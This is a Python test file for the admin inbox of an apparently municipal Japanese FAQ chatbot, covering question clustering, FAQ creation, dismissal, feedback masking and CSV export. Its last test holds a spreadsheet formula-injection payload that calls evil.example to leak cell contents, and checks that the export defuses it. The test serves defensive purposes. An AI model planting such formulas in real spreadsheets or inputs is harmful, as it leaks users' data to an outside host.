"""Unanswered inbox: clusters of similar questions, new FAQ from a cluster, attach, dismiss, low ratings."""

from __future__ import annotations

import csv
import io
import re

from bot.services import services_of
from bot.storage import conversations, faq_repo
from bot.storage.db import transaction
from bot.storage.models import Unanswered
from tests.support.admin import csrf_of

QUESTIONS = [
    "図書館は何時まで開いていますか",
    "図書館は何時まで開いてる",
    "図書館は何時まで開いていますか?",
    "マイナンバーカードを更新したい",
    "マイナンバーカードの更新",
    "プールの料金はいくら",
]


def _log(app, texts=QUESTIONS) -> list[int]:
    with transaction(services_of(app).factory) as session:
        return [
            conversations.log_unanswered(
                session,
                text=t,
                channel="line" if i % 2 else "web",
                sender=f"s{i}",
                reason="unknown",
                candidates=[],
            ).id
            for i, t in enumerate(texts)
        ]


def _cluster_ids(page: str) -> list[str]:
    return re.findall(r'/admin/faq/new\?from=([0-9,]+)"', page)


def test_clusters_sorted_by_count_with_closest_entries(client_for, admin_app) -> None:
    _log(admin_app)
    page = client_for("viewer").get("/admin/unanswered").text
    groups = _cluster_ids(page)
    assert groups == []  # viewers see the inbox but get no action buttons
    page = client_for("editor").get("/admin/unanswered").text
    groups = _cluster_ids(page)
    assert [len(g.split(",")) for g in groups][:2] == [3, 2]
    assert page.index("図書館は何時まで") < page.index("マイナンバーカード")
    assert "近い FAQ" in page and "LINE" in page and "Web" in page


def test_cluster_becomes_a_new_faq(client_for, admin_app) -> None:
    _log(admin_app)
    editor = client_for("editor")
    first = _cluster_ids(editor.get("/admin/unanswered").text)[0]
    form = editor.get(f"/admin/faq/new?from={first}").text
    question = re.search(r'name="question" value="([^"]*)"', form).group(1)
    alternatives = re.search(r'name="alt_questions"[^>]*>([^<]*)</textarea>', form).group(1)
    assert question.startswith("図書館は何時まで") and len(alternatives.splitlines()) == 2
    saved = editor.post(
        "/admin/faq/new",
        data={
            "csrf_token": csrf_of(editor),
            "id": "library-hours",
            "question": question,
            "alt_questions": alternatives,
            "answer": "午前9時から午後7時までです。",
            "from_ids": first,
        },
        follow_redirects=False,
    )
    assert saved.status_code == 303
    with services_of(admin_app).factory() as session:
        rows = session.query(Unanswered).filter(Unanswered.id.in_([int(i) for i in first.split(",")])).all()
        assert {r.status for r in rows} == {"resolved"} and {r.resolved_faq_id for r in rows} == {
            "library-hours"
        }
        assert len(faq_repo.get_entry(session, "library-hours").alt_questions) == 2
    assert "図書館は何時まで" not in editor.get("/admin/unanswered").text


def test_attach_to_existing_entry_and_dismiss(client_for, admin_app) -> None:
    ids = _log(admin_app, ["住民票ってどこでもらえる", "住民票どこでもらえるの", "ペットの話"])
    editor = client_for("editor")
    token = csrf_of(editor)
    attached = editor.post(
        "/admin/unanswered/attach",
        data={"csrf_token": token, "ids": f"{ids[0]},{ids[1]}", "faq_id": "juminhyo"},
        follow_redirects=False,
    )
    assert attached.status_code == 303
    editor.post("/admin/unanswered/dismiss", data={"csrf_token": token, "ids": str(ids[2])})
    with services_of(admin_app).factory() as session:
        entry = faq_repo.get_entry(session, "juminhyo")
        assert entry.alt_questions == ["住民票がほしい", "住民票ってどこでもらえる", "住民票どこでもらえるの"]
        statuses = {r.id: r.status for r in session.query(Unanswered).all()}
    assert statuses == {ids[0]: "resolved", ids[1]: "resolved", ids[2]: "dismissed"}
    assert (
        editor.post(
            "/admin/unanswered/attach", data={"csrf_token": token, "ids": "1", "faq_id": "nope"}
        ).status_code
        == 404
    )


def test_low_rated_answers_and_export(client_for, admin_app) -> None:
    with transaction(services_of(admin_app).factory) as session:
        for helpful in (False, False, True):
            conversations.add_feedback(
                session,
                channel="web",
                sender="s",
                faq_id="sodai-gomi",
                helpful=helpful,
                comment="電話 090-1111-2222 に折り返して",
            )
    _log(admin_app)
    editor = client_for("editor")
    page = editor.get("/admin/unanswered").text
    section = page[page.index("評価の低い回答") :]
    assert "粗大ごみの出し方" in section and "090-1111-2222" not in section and "[電話番号]" in section
    exported = editor.get("/admin/unanswered/export.csv").content.decode("utf-8-sig")
    assert exported.splitlines()[0].startswith("件数,代表的な質問") and "図書館" in exported


def test_the_export_runs_no_resident_formula(client_for, admin_app) -> None:
    """A chat message that Excel would run (issue 17, item 1) reaches the export as text."""
    attack = '=HYPERLINK("https://evil.example/?"&A3,"詳細")'
    _log(admin_app, [attack, "＋８１ を教えて", "@図書館"])
    exported = client_for("editor").get("/admin/unanswered/export.csv").content.decode("utf-8-sig")
    centres = [row[1] for row in csv.reader(io.StringIO(exported))][1:]
    assert len(centres) == 3 and "'" + attack in centres and "'@図書館" in centres
    assert all(centre.startswith("'") for centre in centres)  # ＋８１ too (stored folded to +81)
